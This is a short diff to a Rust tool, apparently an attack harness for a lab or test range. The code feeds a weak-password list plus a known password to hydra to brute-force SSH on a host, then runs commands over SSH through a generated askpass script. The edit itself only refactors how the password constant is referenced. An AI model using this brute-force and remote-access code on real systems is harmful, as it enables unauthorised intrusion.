@@ -49,7 +49,7 @@ fn guess(host: &Host) -> anyhow::Result<()> {
     let mut passwords: Vec<&str> = vec![
         "123456", "password", "hospital", "admin123", "Passw0rd", "qwe123", "1qaz2wsx", "welcome1",
     ];
-    passwords.push(PASSWORD);
+    passwords.push(&PASSWORD);
     fs::write(&list, passwords.join("\n") + "\n")?;
     let output = Command::new(program("hydra")?)
         .args(["-l", ACCOUNT, "-t", "2", "-f", "-I", "-P"])
@@ -127,7 +127,7 @@ fn dump(host: &Host) -> anyhow::Result<()> {
 /// A command over SSH with the password that was found, fed with `input`.
 fn ssh(host: &Host, command: &str, input: &str) -> anyhow::Result<()> {
     let askpass = host.folder.join("askpass");
-    fs::write(&askpass, format!("#!/bin/sh\necho {PASSWORD}\n"))?;
+    fs::write(&askpass, format!("#!/bin/sh\necho {}\n", *PASSWORD))?;
     run(Command::new(program("chmod")?).arg("755").arg(&askpass))?;
     let mut child = Command::new(program("ssh")?)
         .args([
